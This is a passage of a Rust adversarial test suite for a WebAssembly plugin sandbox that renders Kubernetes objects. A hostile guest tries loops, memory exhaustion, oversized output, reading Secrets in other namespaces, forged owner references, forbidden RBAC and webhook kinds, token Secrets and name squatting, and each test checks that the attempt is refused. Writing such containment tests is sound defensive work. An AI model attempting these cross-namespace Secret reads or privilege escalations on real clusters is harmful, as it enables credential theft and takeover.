//! Adversarial suite of the plugin runtime: hostile components (the
//! `guests/hostile` fixture, declaring whatever each test patches into it)
//! attack every containment rule, and are stopped or refused with the right
//! reason in bounded time, while a well-behaved plugin called right after
//! still answers correctly.
//!
//! Classes: identity (1), reads (2), kinds (3), names and ownership (4), pod
//! content (5), time and memory (6), declarations (7), bounded outputs (8).
//! The same rules on the real control plane: `containment_e2e.rs`; through
//! `trainforge plugin run`: `plugin_cli.rs`.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::plugin_common::*;
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use trainforge::plugin::{
    CompileLimits, Compiler, Error, FailurePolicy, Grants, Limits, LoadedPlugin, Owner, PhaseInput,
    PluginRuntime, PluginSet, PluginSource, ReconcileOutput, RuntimeConfig, StaticObjects, bounded,
    record_host_inputs, sha256_hex,
};
use trainforge_api::plugin::KindRef;

// ---------------------------------------------------------------- helpers

/// How long a bounded attack may take, wall clock: far below what each
/// would take unbounded (the hostile guest sleeps 60-120 s, loops forever,
/// compiles for minutes), and far above the scheduling noise of a loaded
/// 2-core CI machine running many tests at once. A deadline that holds ends
/// these calls within a second or so.
const BOUNDED: Duration = Duration::from_secs(15);

fn objects() -> StaticObjects {
    let mut o = StaticObjects::default();
    for obj in [
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds", "namespace": "team"}, "data": {"k": "c2VjcmV0"}}),
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds", "namespace": "kube-system"}, "data": {"k": "cm9vdA=="}}),
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "other", "namespace": "victim"}, "data": {"k": "v"}}),
        json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "node-1"}}),
    ] {
        o.insert(&obj);
    }
    o
}

/// A hostile source declaring `descriptor` (`None`: the default one), with
/// `config` as its plugin configuration.
fn source(descriptor: Option<Value>, config: Value) -> PluginSource {
    let bytes = match descriptor {
        Some(d) => hostile_declaring(&d),
        None => hostile_bytes(),
    };
    let mut src = PluginSource::new("hostile.wasm", bytes);
    src.config = config.to_string();
    src.objects = Arc::new(objects());
    src
}

fn load(rt: &PluginRuntime, descriptor: Option<Value>, config: Value) -> LoadedPlugin {
    rt.load(source(descriptor, config)).unwrap()
}

fn input() -> PhaseInput {
    PhaseInput {
        trainjob: trainjob().to_string(),
        info: serde_json::to_string(&info()).unwrap(),
    }
}

fn owner() -> Owner {
    Owner::from_stored(&trainjob()).unwrap()
}

fn pipeline(plugins: Vec<LoadedPlugin>) -> Result<ReconcileOutput, Error> {
    PluginSet::new(plugins)?.reconcile(&trainjob(), &info())
}

/// The well-behaved plugin, run through the full pipeline after an attack.
fn assert_good_plugin_still_works(rt: &PluginRuntime) {
    let bytes = std::fs::read(minimal_wasm()).unwrap();
    let good = rt.load(PluginSource::new("minimal.wasm", bytes)).unwrap();
    let out = pipeline(vec![good]).unwrap();
    assert_eq!(out.objects.len(), 1);
    assert_eq!(out.objects[0]["metadata"]["name"], "job-minimal");
    assert_eq!(out.objects[0]["metadata"]["namespace"], "team");
    let env = &out
        .info
        .pod_set("node")
        .unwrap()
        .container("node")
        .unwrap()
        .env;
    assert_eq!(env[0].name, "MINIMAL_GREETING");
}

/// Run one build attack; return the error and how long it took.
fn attack(rt: &PluginRuntime, name: &str, limits: Option<Limits>) -> (Error, Duration) {
    let mut src = source(None, json!({"attack": name}));
    src.limits = limits;
    let p = rt.load(src).unwrap();
    let start = Instant::now();
    let err = p
        .build(&input(), &owner())
        .expect_err(&format!("attack {name} must fail"));
    let took = start.elapsed();
    assert!(
        err.to_string().contains("hostile"),
        "error names the plugin: {err}"
    );
    (err, took)
}

fn cm(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {"k": "v"}})
}

/// The result the `read` config reports through its ConfigMap.
fn read(p: &LoadedPlugin) -> String {
    let out = p.build(&input(), &owner()).unwrap();
    out[0]["data"]["result"].as_str().unwrap().to_owned()
}

fn reads_descriptor(reads: Value) -> Value {
    json!({"phases": ["build"], "emits": [["v1", "ConfigMap"]], "reads": reads})
}

fn read_config(api: &str, kind: &str, ns: &str, name: &str) -> Value {
    json!({"read": {"apiVersion": api, "kind": kind, "namespace": ns, "name": name}})
}

// ---------------------------------------------------- the sandbox itself

#[test]
fn infinite_loop_times_out() {
    let rt = short_deadline_runtime();
    let (e, took) = attack(&rt, "loop", None);
    assert!(matches!(e, Error::Timeout { .. }), "{e}");
    assert!(took < BOUNDED, "stopped in {took:?}");
    assert!(
        took >= Duration::from_millis(250),
        "not before the deadline: {took:?}"
    );
    assert_good_plugin_still_works(&rt);
}

#[test]
fn infinite_loop_in_enforce_times_out() {
    let rt = short_deadline_runtime();
    let p = load(&rt, None, json!({"attack": "loop-enforce"}));
    let e = pipeline(vec![p]).unwrap_err();
    assert_eq!(e.reason(), "Timeout", "{e}");
    assert_good_plugin_still_works(&rt);
}

#[test]
fn unbounded_allocation_hits_memory_limit() {
    let rt = short_deadline_runtime();
    let (e, took) = attack(&rt, "alloc", None);
    assert!(matches!(e, Error::MemoryLimit { .. }), "{e}");
    assert!(took < BOUNDED, "{took:?}");
    assert_good_plugin_still_works(&rt);
}

#[test]
fn panic_is_a_trap_with_message() {
    let rt = short_deadline_runtime();
    let (e, _) = attack(&rt, "panic", None);
    assert!(matches!(e, Error::Trap { .. }), "{e}");
    assert!(
        e.to_string().contains("panicked on purpose"),
        "panic message captured: {e}"
    );
    assert_good_plugin_still_works(&rt);
}

#[test]
fn hundred_megabytes_of_output_is_refused() {
    let rt = short_deadline_runtime();
    // With the default 64 MiB cap the guest cannot even build the string.
    let (e, _) = attack(&rt, "huge-output", None);
    assert_eq!(e.reason(), "MemoryLimit", "{e}");
    // With room to build it, the output bound refuses it.
    let roomy = Limits {
        memory_bytes: 512 << 20,
        timeout: Duration::from_secs(5),
        ..Limits::default()
    };
    let (e, took) = attack(&rt, "huge-output", Some(roomy));
    assert!(matches!(e, Error::InvalidOutput { .. }), "{e}");
    assert!(e.to_string().contains("exceeds"), "{e}");
    assert!(took < BOUNDED, "{took:?}");
    assert_good_plugin_still_works(&rt);
}

#[test]
fn invalid_json_is_invalid_output() {
    let rt = short_deadline_runtime();
    let (e, _) = attack(&rt, "invalid-json", None);
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    let p = load(&rt, None, json!({"attack": "bad-info"}));
    let e = pipeline(vec![p]).unwrap_err();
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    let d = json!({"phases": ["status"], "emits": []});
    let p = load(&rt, Some(d), json!({"attack": "bad-status"}));
    let e = PluginSet::new(vec![p])
        .unwrap()
        .status(&trainjob(), &info())
        .unwrap_err();
    assert_eq!(e.reason(), "InvalidOutput", "{e}");
    assert_good_plugin_still_works(&rt);
}

/// A status is bounded like every other output: conditions, message size
/// and total size, each refusal naming the plugin and the bound.
#[test]
fn an_unbounded_status_is_invalid_output() {
    let rt = short_deadline_runtime();
    let d = json!({"phases": ["status"], "emits": []});
    for (attack, says) in [
        ("many-conditions", "20001 conditions, more than 32"),
        ("long-message", "the message of condition Complete"),
        ("big-status", "bytes, more than 65536"),
    ] {
        let p = load(&rt, Some(d.clone()), json!({ "attack": attack }));
        let e = PluginSet::new(vec![p])
            .unwrap()
            .status(&trainjob(), &info())
            .unwrap_err();
        assert_eq!(e.reason(), "InvalidOutput", "{attack}: {e}");
        assert!(
            e.to_string().contains(says) && e.to_string().contains("hostile"),
            "{attack}: {e}"
        );
    }
    // A status within the bounds still comes through.
    let p = load(&rt, Some(d), json!({"attack": "complete"}));
    let status = PluginSet::new(vec![p])
        .unwrap()
        .status(&trainjob(), &info())
        .unwrap()
        .unwrap();
    assert_eq!(status["conditions"][0]["type"], "Complete");
}

/// The guest reports what happened; "blocked" means the host denied it.
fn assert_blocked(rt: &PluginRuntime, name: &str) {
    let (e, _) = attack(rt, name, None);
    match &e {
        Error::Plugin { error, .. } => {
            assert!(error.to_string().contains("blocked"), "{name}: {e}")
        }
        other => panic!("{name}: expected the guest to report a denial, got {other}"),
    }
}

#[test]
fn file_env_socket_clock_and_random_are_denied() {
    let rt = short_deadline_runtime();
    // random-bytes without declaring and being granted `random`.
    for a in ["file", "env", "socket", "clock", "random"] {
        assert_blocked(&rt, a);
    }
    assert_good_plugin_still_works(&rt);
}

#[test]
fn corrupt_module_is_load_failed() {
    let rt = short_deadline_runtime();
    let mut bytes = std::fs::read(minimal_wasm()).unwrap();
    let mid = bytes.len() / 2;
    for b in &mut bytes[mid..mid + 64] {
        *b = 0xff;
    }
    let e = rt
        .load(PluginSource::new("corrupt.wasm", bytes))
        .unwrap_err();
    assert_eq!(e.reason(), "LoadFailed", "{e}");
    assert!(e.to_string().contains("corrupt.wasm"), "{e}");
    assert_good_plugin_still_works(&rt);
}

#[test]
fn wrong_sha256_is_digest_mismatch() {
    let rt = short_deadline_runtime();
    let bytes = std::fs::read(minimal_wasm()).unwrap();
    let mut src = PluginSource::new("minimal.wasm", bytes.clone());
    src.sha256 = Some(sha256_hex(b"something else"));
    let e = rt.load(src).unwrap_err();
    assert!(matches!(e, Error::DigestMismatch { .. }), "{e}");
    let mut src = PluginSource::new("minimal.wasm", bytes.clone());
    src.sha256 = Some(format!("sha256:{}", sha256_hex(&bytes)));
    rt.load(src).expect("the right digest loads");
}

#[test]
fn incompatible_interface_version_is_refused() {
    let rt = short_deadline_runtime();
    let bytes = std::fs::read(incompatible_wasm()).unwrap();
    let e = rt
        .load(PluginSource::new("future.wasm", bytes))
        .unwrap_err();
    assert!(matches!(e, Error::IncompatibleInterface { .. }), "{e}");
    assert!(e.to_string().contains("9.0.0"), "{e}");
    assert_good_plugin_still_works(&rt);
}

#[test]
fn concurrent_calls_are_isolated() {
    let rt = Arc::new(short_deadline_runtime());
    let looping = load(&rt, None, json!({"attack": "loop"}));
    let t = std::thread::spawn(move || looping.build(&input(), &owner()).unwrap_err().reason());
    assert_good_plugin_still_works(&rt);
    assert_eq!(t.join().unwrap(), "Timeout");
}

// ------------------------------------------------------------ 1. identity

#[test]
fn a_phase_cannot_change_which_trainjob_it_acts_for() {
    let rt = short_deadline_runtime();
    for phase in ["enforce-ml-policy", "enforce-pod-spec", "pre-build"] {
        for (pointer, value, field) in [
            (
                "/metadata/namespace",
                json!("kube-system"),
                "metadata.namespace",
            ),
            ("/metadata/name", json!("someone-else"), "metadata.name"),
            ("/metadata/uid", json!("uid-2"), "metadata.uid"),
            ("/kind", json!("ConfigMap"), "kind"),
            ("/apiVersion", json!("v1"), "apiVersion"),
        ] {
            let cfg = json!({"set": [{"phase": phase, "target": "trainjob", "pointer": pointer, "value": value}],
                "emit": [cm("job-x")]});
            let e = pipeline(vec![load(&rt, None, cfg)]).unwrap_err();
            assert_eq!(e.reason(), "IdentityChanged", "{phase} {pointer}: {e}");
            assert!(
                e.to_string().contains(field) && e.to_string().contains(phase),
                "{e}"
            );
        }
    }
}

#[test]
fn with_failure_policy_ignore_an_identity_change_is_dropped_not_applied() {
    let rt = short_deadline_runtime();
    let cfg = json!({"set": [{"phase": "enforce-ml-policy", "target": "trainjob",
        "pointer": "/metadata/namespace", "value": "kube-system"}], "emit": [cm("job-x")]});
    let mut src = source(None, cfg);
    src.failure_policy = FailurePolicy::Ignore;
    let out = pipeline(vec![rt.load(src).unwrap()]).unwrap();
    assert_eq!(out.trainjob["metadata"]["namespace"], "team");
    assert_eq!(out.objects[0]["metadata"]["namespace"], "team");
    assert!(
        out.warnings.iter().any(|w| w.contains("IdentityChanged")),
        "{:?}",
        out.warnings
    );
}

#[test]
fn emitted_objects_get_namespace_and_owner_from_the_stored_trainjob() {
    let rt = short_deadline_runtime();
    let out = pipeline(vec![load(&rt, None, json!({"emit": [cm("job-mine")]}))]).unwrap();
    let meta = &out.objects[0]["metadata"];
    assert_eq!(meta["namespace"], "team");
    assert_eq!(
        meta["ownerReferences"],
        json!([{"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "name": "job",
            "uid": "uid-1", "controller": true, "blockOwnerDeletion": true}])
    );
}

#[test]
fn objects_elsewhere_or_owned_by_others_are_refused() {
    let rt = short_deadline_runtime();
    let foreign = |refs: Value| json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "job-x", "ownerReferences": refs}});
    for obj in [
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "job-x", "namespace": "kube-system"}}),
        foreign(
            json!([{"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "name": "someone-elses-job", "uid": "other"}]),
        ),
        foreign(
            json!([{"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "name": "job", "uid": "forged"}]),
        ),
        foreign(
            json!([{"apiVersion": "apps/v1", "kind": "Deployment", "name": "operator", "uid": "u"}]),
        ),
    ] {
        let e = pipeline(vec![load(&rt, None, json!({"emit": [obj]}))]).unwrap_err();
        assert_eq!(e.reason(), "ForbiddenObject", "{e}");
    }
}

// --------------------------------------------------------------- 2. reads

#[test]
fn reads_of_secrets_need_an_explicit_grant() {
    let rt = short_deadline_runtime();
    let d = reads_descriptor(json!([["v1", "ConfigMap"], ["v1", "Secret"]]));
    let e = rt.load(source(Some(d.clone()), json!({}))).unwrap_err();
    assert_eq!(e.reason(), "ForbiddenKind", "{e}");
    assert!(e.to_string().contains("allowedReads"), "{e}");
    // Narrowed to ConfigMaps by the administrator: loads, and Secrets are denied.
    let mut src = source(
        Some(d.clone()),
        read_config("v1", "Secret", "team", "creds"),
    );
    src.allowed_reads = Some(vec![KindRef::new("v1", "ConfigMap")]);
    let r = read(&rt.load(src).unwrap());
    assert!(r.starts_with("denied"), "{r}");
}

#[test]
fn reads_stay_in_the_trainjob_namespace() {
    let rt = short_deadline_runtime();
    let d = reads_descriptor(json!([["v1", "ConfigMap"], ["v1", "Secret"]]));
    let allowed = Some(vec![
        KindRef::new("v1", "ConfigMap"),
        KindRef::new("v1", "Secret"),
    ]);
    let run = |cfg: Value| {
        let mut src = source(Some(d.clone()), cfg);
        src.allowed_reads = allowed.clone();
        read(&rt.load(src).unwrap())
    };
    let own = run(read_config("v1", "Secret", "team", "creds"));
    assert!(
        own.starts_with("found") && own.contains("c2VjcmV0"),
        "{own}"
    );
    for (kind, ns, name) in [
        ("Secret", "kube-system", "creds"),
        ("ConfigMap", "victim", "other"),
        ("Secret", "", "creds"),
    ] {
        let r = run(read_config("v1", kind, ns, name));
        assert!(
            r.starts_with("denied") && r.contains("namespace"),
            "{kind} {ns}/{name}: {r}"
        );
        assert!(!r.contains("cm9vdA=="), "{r}");
    }
    let undeclared = run(read_config("v1", "Pod", "team", "x"));
    assert!(undeclared.starts_with("denied"), "{undeclared}");
    let mut flood = read_config("v1", "ConfigMap", "team", "none");
    flood["read"]["times"] = json!(300);
    let r = run(flood);
    assert!(r.starts_with("denied") && r.contains("256"), "{r}");
}

#[test]
fn cluster_scoped_reads_need_an_explicit_grant() {
    let rt = short_deadline_runtime();
    let d = reads_descriptor(json!([["v1", "Node"]]));
    let e = rt.load(source(Some(d.clone()), json!({}))).unwrap_err();
    assert_eq!(e.reason(), "ForbiddenKind", "{e}");
    assert!(e.to_string().contains("cluster-scoped"), "{e}");
    let mut src = source(Some(d), read_config("v1", "Node", "team", "node-1"));
    src.allowed_reads = Some(vec![KindRef::new("v1", "Node")]);
    let r = read(&rt.load(src).unwrap());
    assert!(r.starts_with("found"), "{r}");
}

/// What a render took from outside its arguments decides whether the
/// operator may reuse it: every object read (once, however often; reads the
/// sandbox refused are not inputs), and random bytes or a granted clock
/// (never reusable). A plugin cannot hide a read or its randomness, nor
/// pin another thread's render.
#[test]
fn reads_random_and_clock_are_recorded_for_render_reuse() {
    let rt = short_deadline_runtime();
    let cm = |ns: &str, name: &str| {
        (
            KindRef::new("v1", "ConfigMap"),
            ns.to_owned(),
            name.to_owned(),
        )
    };
    let d = reads_descriptor(json!([["v1", "ConfigMap"]]));

    // Read 300 times (the sandbox serves 256 per call): one input.
    let mut many = read_config("v1", "ConfigMap", "team", "settings");
    many["read"]["times"] = json!(300);
    let p = rt.load(source(Some(d.clone()), many)).unwrap();
    let (answer, taken) = record_host_inputs(|| read(&p));
    assert!(
        answer.starts_with("denied") && answer.contains("256"),
        "{answer}"
    );
    assert_eq!(
        taken.reads.into_iter().collect::<Vec<_>>(),
        [cm("team", "settings")]
    );
    assert!(!taken.opaque);

    // An absent object is an input too (it may appear); a read of another
    // namespace is refused and returns nothing: no input.
    for (ns, name, answer_is, recorded) in [
        ("team", "later", "absent", true),
        ("victim", "other", "denied", false),
    ] {
        let p = rt
            .load(source(
                Some(d.clone()),
                read_config("v1", "ConfigMap", ns, name),
            ))
            .unwrap();
        let (answer, taken) = record_host_inputs(|| read(&p));
        assert!(answer.starts_with(answer_is), "{ns}/{name}: {answer}");
        let expected: Vec<_> = if recorded {
            vec![cm(ns, name)]
        } else {
            Vec::new()
        };
        assert_eq!(
            taken.reads.into_iter().collect::<Vec<_>>(),
            expected,
            "{ns}/{name}"
        );
    }

    // Nothing is recorded outside `record_host_inputs`, nor on another thread.
    let p = Arc::new(
        rt.load(source(
            Some(d),
            read_config("v1", "ConfigMap", "team", "settings"),
        ))
        .unwrap(),
    );
    let ((), taken) = record_host_inputs(|| {
        let other = p.clone();
        std::thread::spawn(move || read(&other)).join().unwrap();
    });
    assert!(taken.reads.is_empty(), "{:?}", taken.reads);

    // Granted randomness and a granted clock make the render opaque; the
    // same plugins without the grant are refused and take nothing.
    for (capability, attack) in [("random", "random"), ("clock", "clock")] {
        let d = json!({"phases": ["build"], "emits": [["v1", "ConfigMap"]], "capabilities": [capability]});
        let mut src = source(Some(d), json!({"attack": attack}));
        src.grants = Grants {
            random: capability == "random",
            clock: capability == "clock",
            ..Grants::default()
        };
        let p = rt.load(src).unwrap();
        let (out, taken) = record_host_inputs(|| p.build(&input(), &owner()));
        let out = out.unwrap();
        assert_eq!(out[0]["data"]["what"], attack, "{out:?}");
        assert!(
            taken.opaque,
            "{capability}: a granted {attack} makes the render opaque"
        );
        let (e, taken) = record_host_inputs(|| attack_result(&rt, attack));
        assert!(e.to_string().contains("blocked"), "{attack}: {e}");
        assert!(!taken.opaque, "{attack} refused: nothing taken");
    }
}

/// The error of build attack `name` by a plugin granted nothing.
fn attack_result(rt: &PluginRuntime, name: &str) -> Error {
    attack(rt, name, None).0
}

// --------------------------------------------------------------- 3. kinds

#[test]
fn declaring_kinds_outside_the_allow_list_refuses_the_plugin() {
    let rt = short_deadline_runtime();
    for (api, kind) in [
        ("coordination.k8s.io/v1", "Lease"),
        ("trainer.kubeflow.org/v1alpha1", "TrainJob"),
        ("trainer.kubeflow.org/v1alpha1", "TrainingRuntime"),
        ("trainforge.dev/v1alpha1", "ClusterTrainerPlugin"),
        ("rbac.authorization.k8s.io/v1", "RoleBinding"),
        ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
        (
            "admissionregistration.k8s.io/v1",
            "ValidatingWebhookConfiguration",
        ),
        ("apiextensions.k8s.io/v1", "CustomResourceDefinition"),
        ("v1", "Namespace"),
        ("events.k8s.io/v1", "Event"),
        ("v1", "Pod"),
        ("v1", "ServiceAccount"),
        ("apps/v1", "DaemonSet"),
        ("example.com/v1", "ClusterQueue"),
    ] {
        let d = json!({"emits": [["v1", "ConfigMap"], [api, kind]]});
        let e = rt.load(source(Some(d.clone()), json!({}))).unwrap_err();
        assert_eq!(e.reason(), "ForbiddenKind", "{kind}: {e}");
        assert!(e.to_string().contains(kind), "{e}");
        // Narrowing it away by the administrator makes the plugin loadable.
        let mut src = source(Some(d), json!({}));
        src.allowed_emits = Some(vec![KindRef::new("v1", "ConfigMap")]);
        rt.load(src).unwrap();
    }
}

#[test]
fn pods_and_other_explicit_kinds_load_only_when_the_administrator_lists_them() {
    let rt = short_deadline_runtime();
    let d = json!({"emits": [["v1", "ConfigMap"], ["v1", "Pod"]]});
    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "job-p"},
        "spec": {"containers": [{"name": "node", "image": "busybox"}]}});
    let mut src = source(Some(d), json!({"emit": [pod]}));
    src.allowed_emits = Some(vec![
        KindRef::new("v1", "ConfigMap"),
        KindRef::new("v1", "Pod"),
    ]);
    let out = pipeline(vec![rt.load(src).unwrap()]).unwrap();
    assert_eq!(out.objects[0]["kind"], "Pod");
}

#[test]
fn undeclared_or_narrowed_kinds_are_refused_at_build() {
    let rt = short_deadline_runtime();
    let lease = json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name": "trainforge-operator"}});
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}});
    let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "r"}});
    for obj in [lease, secret, role] {
        let e = pipeline(vec![load(&rt, None, json!({"emit": [obj]}))]).unwrap_err();
        assert_eq!(e.reason(), "ForbiddenObject", "{e}");
    }
    // The administrator narrowed the JobSet away.
    let jobset = json!({"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "metadata": {"name": "job"}});
    let mut src = source(None, json!({"emit": [jobset]}));
    src.allowed_emits = Some(vec![KindRef::new("v1", "ConfigMap")]);
    let e = pipeline(vec![rt.load(src).unwrap()]).unwrap_err();
    assert_eq!(e.reason(), "ForbiddenObject", "{e}");
}

// --------------------------------------------------- 4. names and ownership

#[test]
fn host_names_duplicates_tokens_finalizers_and_unnamed_objects_are_refused() {
    let rt = short_deadline_runtime();
    let secret_token = json!({"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "job-t", "annotations": {"kubernetes.io/service-account.name": "default"}}});
    let d = json!({"emits": [["v1", "ConfigMap"], ["v1", "Secret"]]});
    for (emit, reason, text) in [
        (
            json!([cm("job-runtime-snapshot")]),
            "ForbiddenObject",
            "snapshot",
        ),
        (
            json!([cm("job-twice"), cm("job-twice")]),
            "ForbiddenObject",
            "already emitted",
        ),
        (json!([secret_token]), "ForbiddenObject", "token"),
        (
            json!([{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "job-f", "finalizers": ["x.io/keep"]}}]),
            "ForbiddenObject",
            "finalizers",
        ),
        (
            json!([{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"generateName": "many-"}}]),
            "InvalidOutput",
            "generateName",
        ),
    ] {
        let e = pipeline(vec![load(&rt, Some(d.clone()), json!({"emit": emit}))]).unwrap_err();
        assert_eq!(e.reason(), reason, "{e}");
        assert!(e.to_string().contains(text), "{e}");
    }
}

/// A plugin cannot take a name the host or another TrainJob will need: not
/// another TrainJob's JobSet (one that does not exist yet included: the
/// victim's TrainJob would otherwise read it as its own), not any runtime
/// snapshot, not a name outside `<trainjob>-…`.
#[test]
fn names_of_other_trainjobs_cannot_be_squatted() {
    let rt = short_deadline_runtime();
    let d = json!({"emits": [["v1", "ConfigMap"], ["v1", "Secret"], ["jobset.x-k8s.io/v1alpha2", "JobSet"]]});
    let jobset = |name: &str| {
        json!({"apiVersion": "jobset.x-k8s.io/v1alpha2", "kind": "JobSet", "metadata": {"name": name},
            "spec": {"replicatedJobs": []}})
    };
    let secret =
        |name: &str| json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}});
    for (object, text) in [
        (jobset("victim"), "JobSet of another TrainJob"),
        (jobset("job-2"), "JobSet of another TrainJob"),
        (
            cm("victim-runtime-snapshot"),
            "runtime snapshot of TrainJob \"victim\"",
        ),
        (
            cm("job-2-runtime-snapshot"),
            "runtime snapshot of TrainJob \"job-2\"",
        ),
        (
            cm("job-runtime-snapshot"),
            "runtime snapshot of this TrainJob",
        ),
        (
            secret("victim-mpi-ssh-auth"),
            "not derived from the TrainJob's",
        ),
        (cm("settings"), "not derived from the TrainJob's"),
        (cm("jobx"), "not derived from the TrainJob's"),
    ] {
        let e = pipeline(vec![load(
            &rt,
            Some(d.clone()),
            json!({"emit": [object.clone()]}),
        )])
        .unwrap_err();
        assert_eq!(e.reason(), "ForbiddenObject", "{object}: {e}");
        assert!(e.to_string().contains(text), "{object}: {e}");
    }
    // Its own JobSet and `<trainjob>-…` names are fine.
    let out = pipeline(vec![load(
        &rt,
        Some(d),
        json!({"emit": [jobset("job"), cm("job"), secret("job-mpi-ssh-auth")]}),
    )])
    .unwrap();
    assert_eq!(out.objects.len(), 3);
}

/// The names plugins declare (`naming.object-names`) are theirs for every
/// TrainJob: no plugin of TrainJob `job` can emit, under `job-…`, an
/// object a loaded plugin's rule makes another TrainJob's (`job-b`'s MPI
/// Secret, its coscheduling PodGroup), whether the rule is a builtin's or
/// any other plugin's; the refusal names the rule's plugin and the
/// TrainJob. Objects of other kinds, and this TrainJob's own names, pass.
#[test]
fn names_plugins_declare_cannot_be_taken_for_another_trainjob() {
    let rt = short_deadline_runtime();
    let builtin = |name: &str| {
        rt.load(
            trainforge::plugin::builtin::find(name)
                .unwrap()
                .trusted_source(),
        )
        .unwrap()
    };
    let pod_group = "scheduling.x-k8s.io/v1alpha1";
    let d = json!({"emits": [["v1", "ConfigMap"], ["v1", "Secret"], [pod_group, "PodGroup"]]});
    let secret =
        |name: &str| json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}});
    let group = |name: &str| json!({"apiVersion": pod_group, "kind": "PodGroup", "metadata": {"name": name}});
    // The builtins declare their names.
    let mpi = builtin("mpi");
    let rules = &mpi.descriptor().object_names;
    assert!(
        rules
            .iter()
            .any(|r| r.kind.kind == "Secret" && r.suffix == "-mpi-ssh-auth"),
        "{rules:?}"
    );
    let with_builtins = |emit: Value| {
        pipeline(vec![
            builtin("mpi"),
            builtin("coscheduling"),
            load(&rt, Some(d.clone()), json!({"emit": [emit]})),
        ])
    };
    for (object, by, of) in [
        (secret("job-b-mpi-ssh-auth"), "mpi", "job-b"),
        (cm("job-b-mpi-hostfile"), "mpi", "job-b"),
        (
            cm("job-mpi-hostfile-mpi-hostfile"),
            "mpi",
            "job-mpi-hostfile",
        ),
        (group("job-b"), "coscheduling", "job-b"),
        (
            group("job-mpi-ssh-auth"),
            "coscheduling",
            "job-mpi-ssh-auth",
        ),
    ] {
        let e = with_builtins(object.clone()).unwrap_err();
        assert_eq!(e.reason(), "ForbiddenObject", "{object}: {e}");
        let text = e.to_string();
        assert!(
            text.contains(&format!("plugin {by}'s naming rule"))
                && text.contains(&format!("TrainJob {of:?}")),
            "{object}: {text}"
        );
    }
    for object in [
        secret("job-mpi-ssh-auth"),
        cm("job-b-mpi-ssh-auth"),
        secret("job-b-mpi-hostfile"),
        group("job"),
    ] {
        let out = with_builtins(object.clone()).unwrap_or_else(|e| panic!("{object}: {e}"));
        assert_eq!(out.objects.len(), 1, "{object}");
    }
    // Without the plugin whose rule it is, the name is free.
    let out = pipeline(vec![load(
        &rt,
        Some(d.clone()),
        json!({"emit": [secret("job-b-mpi-ssh-auth")]}),
    )])
    .unwrap();
    assert_eq!(out.objects.len(), 1);
    // Any plugin's declared rule counts, not only a builtin's, and whether
    // or not that plugin serves the pass.
    let declaring = load(
        &rt,
        Some(
            json!({"name": "declares", "policy_keys": ["mlPolicy.elsewhere"],
            "emits": [["v1", "ConfigMap"]], "object_names": [["v1", "ConfigMap", "-vendor.cache"]]}),
        ),
        json!({}),
    );
    assert_eq!(declaring.descriptor().object_names.len(), 1);
    let e = pipeline(vec![
        declaring.clone(),
        load(
            &rt,
            Some(d.clone()),
            json!({"emit": [cm("job-x-vendor.cache")]}),
        ),
    ])
    .unwrap_err();
    assert!(
        e.to_string().contains("plugin declares's naming rule")
            && e.to_string().contains("TrainJob \"job-x\""),
        "{e}"
    );
    let out = pipeline(vec![
        declaring,
        load(&rt, Some(d), json!({"emit": [cm("job-vendor.cache")]})),
    ])
    .unwrap();
    assert_eq!(out.objects.len(), 1);
}

/// A naming rule is the plugin's claim, so it is checked at load time and
/// the call that returns it is bounded like `describe`: too many rules, a
/// rule the host does not accept, and a call that loops or traps all
/// refuse the plugin, naming why.
#[test]
fn naming_rules_are_checked_when_a_plugin_loads() {
    let rt = short_deadline_runtime();
    for (rules, reason, says) in [
        (json!("many"), "InvalidDescriptor", "at most 16"),
        (json!("loop"), "Timeout", "object-names"),
        (json!("trap"), "Trap", "object-names"),
        // Each rule is checked (every case of which the descriptor's unit
        // test covers): one case shows the check runs at load.
        (
            json!([["v1", "Secret", "-x"]]),
            "InvalidDescriptor",
            "not one the plugin declares",
        ),
    ] {
        let d = json!({"name": "claims", "emits": [["v1", "ConfigMap"]], "object_names": rules});
        let started = Instant::now();
        let e = rt.load(source(Some(d), json!({}))).unwrap_err();
        assert!(
            started.elapsed() < BOUNDED,
            "{rules}: took {:?}",
            started.elapsed()
        );
        assert_eq!(e.reason(), reason, "{rules}: {e}");
        assert!(
            e.to_string().contains(says) && e.to_string().contains("claims"),
            "{rules}: {e}"
        );
    }
    assert_good_plugin_still_works(&rt);
}

/// A component of the `plugin` world as 0.1.0 first defined it (no
/// `naming` export) loads and runs beside plugins that declare names; one
/// that announces `object-names` without exporting `naming` is refused,
/// naming the missing interface.
#[test]
fn plugins_built_before_naming_keep_loading() {
    let rt = short_deadline_runtime();
    let legacy = rt
        .load(PluginSource::new("legacy.wasm", legacy_bytes(false)))
        .unwrap();
    assert!(legacy.descriptor().object_names.is_empty());
    let mpi = rt
        .load(
            trainforge::plugin::builtin::find("mpi")
                .unwrap()
                .trusted_source(),
        )
        .unwrap();
    let out = pipeline(vec![legacy, mpi]).unwrap();
    assert_eq!(out.objects.len(), 1);
    assert_eq!(out.objects[0]["metadata"]["name"], "job-legacy");
